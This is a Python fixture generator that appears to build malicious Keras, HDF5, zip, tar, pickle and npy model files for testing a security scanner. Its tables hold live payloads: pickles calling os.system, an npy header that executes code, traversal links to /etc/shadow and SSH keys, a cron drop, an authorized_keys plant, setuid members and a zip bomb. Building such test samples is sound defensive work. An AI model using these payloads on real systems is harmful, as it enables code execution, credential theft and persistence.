        yield f"member_{name}", as_keras(sequential(), extra={member: data})
    for name, files in FOLDERS.items():
        yield (
            f"folder_{name}",
            as_folder({"model.keras": keras_zip(sequential()), **files} if "config.json" not in files else files),
        )
    for name, data in TEXTS.items():
        yield f"text_{name.replace('.', '_')}", as_bytes(data, Path(name).suffix)


def as_folder(files: dict[str, str | bytes], links: dict[str, str] | None = None) -> Make:
    def make(path: Path) -> None:
        path.mkdir()
        for name, data in files.items():
            (path / name).parent.mkdir(parents=True, exist_ok=True)
            (path / name).write_bytes(data if isinstance(data, bytes) else data.encode())
        for name, target in (links or {}).items():
            (path / name).symlink_to(target)

    return make


# -- what no table holds


def hold(write: Callable[[io.BytesIO], object]) -> bytes:
    """The bytes that something writes."""
    held = io.BytesIO()
    write(held)
    return held.getvalue()


def weights_with(change: Callable[[h5py.File], object]) -> bytes:
    def write(held: io.BytesIO) -> None:
        with h5py.File(held, "w") as file:
            change(file)

    return hold(write)


def split_config(file: h5py.File) -> None:
    """As Keras keeps a long configuration: in numbered attributes."""
    del file.attrs["model_config"]
    for at in range(0, len(HIDDEN), 100):
        file.attrs[f"model_config{at // 100}"] = HIDDEN[at : at + 100]


def link(path: str, target: str = "/x") -> h5py.ExternalLink:
    return h5py.ExternalLink(path, target)


def put(name: str, value: object) -> Callable[[h5py.File], object]:
    return lambda file: file.__setitem__(name, value)


def name_root(name: str, value: object) -> Callable[[h5py.File], object]:
    return lambda file: file.attrs.__setitem__(name, value)


def create(name: str, *args: Any, **more: Any) -> Callable[[h5py.File], object]:
    return lambda file: file.create_dataset(name, *args, **more)


CONSTANT = b"\x08\x07\x12\x00"
# fmt: off
HDF5: dict[str, Callable[[h5py.File], object]] = {
    "filter": create("model_weights/x", (4,), "f4", chunks=(4,), compression=32015, allow_unknown_filter=True),
    "plugin": create("model_weights/z", (4,), "f4", chunks=(4,), compression=32001, allow_unknown_filter=True),
    "loop": lambda file: file.__setitem__("model_weights/loop", file["model_weights"]),
    "share": put("optimizer_weights/a", link("//10.0.0.1/share/x.h5", "/")), "nested": put("model_weights/a/b/c/k", link("w.bin", "/")),
    "committed": put("model_weights/dense2", link("../../../../etc/shadow", "model")),
    "soft": put("model_weights/dense/k", h5py.SoftLink("/../../etc/passwd")),
    "soft_device": put("model_weights/z", h5py.SoftLink("../../../../dev/shm/x")),
    "zeros": create("model_weights/dense/k", (1 << 30,), "u1", external=[("/dev/zero", 0, 1 << 30)]),
    "relative": create("model_weights/dense/k", (8,), "u1", external=[("../../../../etc/hostname", 0, 8)]),
    "wide": create("model_weights/s", (2,), "S1000000000", chunks=(1,)),
    "many": lambda file: [create(f"model_weights/a{i}", (1 << 20, 1 << 10), "f8", chunks=(64, 64))(file) for i in range(40)],
    "paths": lambda file: file["model_weights"].attrs.__setitem__("layer_names", np.array([b"../../../../home/me/.bashrc"])),
    "pytables": name_root("info", np.bytes_(b"(dp0\nS'a'\ncposix\nsystem\n(S'id'\ntRs.")),
    "texts": name_root("state", [pickled("os", "system").decode()]), "escape": lambda file: file.create_group("m/\x1b]0;pwned\x07"),
    "opaque": create("optimizer_state", data=np.void(pickled("subprocess", "call", 4))), "attribute": name_root("\x1b[8mhidden", 1),
    "dataset": put("model_config", HIDDEN), "fixed": create("model_config", data=np.array([HIDDEN.encode()])), "split": split_config,
    "packed": create("conf", data=np.frombuffer(HIDDEN.encode(), "uint8"), chunks=True, compression="gzip"),
    "training": name_root("training_config", json.dumps({"loss": function("os", "system"), "optimizer_config": {}})),
    "backup": lambda file: file.create_group("backup").attrs.__setitem__("model_config", HIDDEN),
}
GRAPHS: dict[str, bytes] = {
    "proto": field(1, field(2, b"DecodeProtoV2") + field(5, field(1, b"descriptor_source") + field(2, field(2, b"/etc/evil.pb")))),
    "print": field(1, field(2, b"PrintV2") + field(5, field(1, b"output_stream") + field(2, field(2, b"file:///tmp/c")))),
    "library": field(2, field(1, field(1, field(1, b"f")) + field(3, field(1, b"n") + field(2, b"ReadFile")))),
    "long_length": field(1, field(1, b"n") + b"\x12\x89\x00WriteFile"),
    **{f"table_{number}": field(1, field(2, b"Const") + field(5, field(1, b"value") + field(2, field(8, CONSTANT + field(8, path)))))
        + graph_def("InitializeTableFromTextFileV2") for number, path in enumerate((b"/etc/passwd", b"/home/me/.ssh/id_rsa"))},
}
TARS: dict[str, list[tuple[str, dict[str, Any]]]] = {
    "link": [("m", {"type": tarfile.SYMTYPE, "linkname": "/home/me/.ssh"}), ("m/authorized_keys", {})],
    "up": [("../../x", {})], "absolute": [("/etc/cron.d/x", {})], "hard": [("w.h5", {"type": tarfile.LNKTYPE, "linkname": "/etc/shadow"})],
    "pax": [("model.h5", {"pax_headers": {"path": "../../../.bashrc"}})], "owner": [("run", {"mode": 0o4755})],
}
# fmt: on


def tar(members: list[tuple[str, dict[str, Any]]], mode: str = "w") -> bytes:
    def write(held: io.BytesIO) -> None:
        with tarfile.open(fileobj=held, mode=mode) as archive:  # type: ignore[call-overload]
            for name, fields in members:
                info = tarfile.TarInfo(name)
                for key, value in fields.items():
                    setattr(info, key, value)
                archive.addfile(info)

    return hold(write)


def mark(data: bytes, *places: tuple[bytes, int, bytes]) -> bytes:
    """`data` with bytes exchanged, counted from where a signature first stands."""
    held = bytearray(data)
    for signature, offset, value in places:
        at = held.find(signature) + offset
        held[at : at + len(value)] = value
    return bytes(held)


def zip_file(*members: tuple[Any, bytes]) -> bytes:
    return H._zip([("metadata.json", b"{}"), ("config.json", json.dumps(sequential()).encode()), *members])


def member(name: str, mode: int = 0, extra: bytes = b"") -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr, info.extra = 3, mode << 16, extra
    return info


def zip_files() -> Iterator[tuple[str, bytes]]:
    local, central = b"PK\3\4", b"PK\1\2"
    plain, inner = zip_file(("x", b"{}")), hold(lambda held: zipfile.ZipFile(held, "w").writestr("x", "y"))
    yield "setuid", zip_file((member("assets/run", 0o104755), b"x"))
    yield "fifo", zip_file((member("assets/pipe", 0o010644), b""))
    yield "device", zip_file((member("assets/dev", 0o060644), b""))
    yield "link", zip_file(H._link("vocabulary.txt", "../../../etc/passwd"))
    yield "link_folder", zip_file(H._link("assets", "/tmp"), ("assets/x", b"x"))
    other = struct.pack("<HHBI", 0x7075, 14, 1, zlib.crc32(b"assets/a")) + b"../../evi"
    yield "other_name", zip_file((member("assets/a", extra=other), b"{}"))
    for name, value in (("encrypted", b"\x01\0"), ("method99", b"\x63\0"), ("method9", b"\x09\0")):
        shift = 6 if name == "encrypted" else 8
        yield name, mark(plain, (local, shift, value), (central, shift + 2, value))
    hidden = mark(inner, (local, 6, b"\x01"), (central, 8, b"\x01"))
    yield "encrypted_inside", keras_zip(sequential(), {"assets/i.zip": hidden})
    yield "nul", zip_file(("assets/vocab.txtX.py", b"x")).replace(b"txtX.py", b"txt\0.py")
    yield "backslash", zip_file(("assets/AAAA/BBBB.txt", b"x")).replace(b"assets/AAAA/BBBB.txt", b"..\\..\\AA/BBBB.txt  ")
    first = hold(lambda held: zipfile.ZipFile(held, "w").writestr("config.json", json.dumps(sequential(BAD))))
    yield "local_only", first + keras_zip(sequential())
    yield "size", zip_file(("assets/a", b"hello")).replace(struct.pack("<II", 5, 5), struct.pack("<II", 5, 1 << 31))
    yield "many", H._zip([("config.json", b"{}")] + [(f"a/{number}", b"") for number in range(21_000)])
    yield "comment", plain[:-2] + struct.pack("<H", 9) + b"\x1b[2Jhello"
    yield "weights_link", keras_zip(sequential(), {"model.weights.h5": weights_with(put("layers/d/vars/0", link("/etc/x.h5")))})
    yield "weights_virtual", keras_zip(sequential(), {"model.weights.h5": weights_with(H._virtual)})
    for name, data in (("objects", H._npz(pickled("os", "system"))), ("climbs", inner.replace(b"x", b"/"))):
        yield f"npz_{name}", keras_zip(sequential(), {"model.weights.npz": data}, "model.weights.npz")
    yield "tar", keras_zip(sequential(), {"assets/vocabulary.txt": tar(TARS["up"])})
    yield "tgz", keras_zip(sequential(), {"assets/a.tgz": tar(TARS["up"], "w:gz")})
    packed = hold(lambda held: zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED).writestr("config.json", b"[" * (80 << 20)))
    yield "bomb", packed


def other_files() -> Iterator[tuple[str, Make]]:
    for name, change in HDF5.items():
        yield f"hdf5_{name}", H._h5(lambda file, change=change: change(file) and None)  # type: ignore[misc]
    for name, graph in GRAPHS.items():
        yield f"graph_{name}", H._saved_model(graph)
    for name, members in TARS.items():
        yield f"tar_{name}", as_bytes(tar(members, ("w", "w:gz", "w:xz")[len(name) % 3]), ".tar")
    for name, data in zip_files():
        yield f"zip_{name}", as_bytes(data, ".keras")
    for name, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress)):
        yield f"packed_pickle_{name}", as_bytes(pack(pickled("os", "system")), ".pkl")
        yield f"packed_keras_{name}", as_bytes(pack(keras_zip(sequential(BAD))), ".bin")
    yield "packed_thrice", as_bytes(gzip.compress(gzip.compress(bz2.compress(SYSTEM))), ".gz")
    for name, data in (("nested", pickle.dumps({"a": SYSTEM})), ("second", pickle.dumps(np.arange(10)) + SYSTEM)):
        yield f"pickle_{name}", as_bytes(data, ".joblib")
    yield "pickle_model", as_bytes(pickle.dumps((b"x", keras_zip(sequential(lambda_layer(CODE))))), ".pkl")
    header = b"{'descr': [('a', '<f4'), ('b', 'O')], 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    yield "npy_record", as_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + header + SYSTEM, ".npy")
    evil = b"{'descr': __import__('os').system('x'), 'fortran_order': False, 'shape': (1,)}".ljust(117) + b"\n"
    yield "npy_header", as_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + evil + bytes(8), ".npy")
    yield "weights_stored", as_bytes(weights_with(create("d", (4,), "f4", external=[("/etc/passwd", 0, 16)])), ".weights.h5")
    yield "link_weights", as_folder(META, {"model.weights.h5": "../../../../etc/passwd"})  # type: ignore[arg-type]
    yield "link_config", as_folder({"metadata.json": "{}"}, {"config.json": "/etc/passwd"})
    saved = field(2, field(1, field(4, b"serve")) + field(2, graph_def("Const")))
    for name, files in (
        ("so", {"assets/libops.so.2": b"x"}),
        ("sh", {"assets.extra/run.sh": b"#!/bin/sh"}),
        ("elf", {"assets/v": b"\x7fELF"}),
    ):
        yield f"saved_{name}", as_folder({"saved_model.pb": b"\x08\x01" + saved, **files})
    metadata = json.dumps({"class_name": "TFSMLayer", "config": {"filepath": "/evil"}}).encode()
    yield "saved_layer", as_folder({"saved_model.pb": b"\x08\x01" + saved, "keras_metadata.pb": field(1, field(4, metadata))})
    asset = field(6, field(1, field(1, b"Const:0")) + field(2, b"../../../../etc/passwd"))
    yield "saved_asset", as_folder({"saved_model.pb": b"\x08\x01" + field(2, field(1, field(4, b"serve")) + asset)})
    yield "saved_text", as_folder({"saved_model.pbtxt": 'meta_graphs { graph_def { node { name: "a" op: "PyFunc" } } }'})

    def make_pipe(path: Path) -> None:
        as_folder(META)(path)  # type: ignore[arg-type]
        os.mkfifo(path / "model.weights.h5")

    yield "pipe", make_pipe


def make_further(folder: Path) -> list[Path]:
    """Write every file into `folder`; their paths."""
    for files in (table_files, other_files):
        for name, make in files():
            make(folder / name)
    return sorted(folder.iterdir())
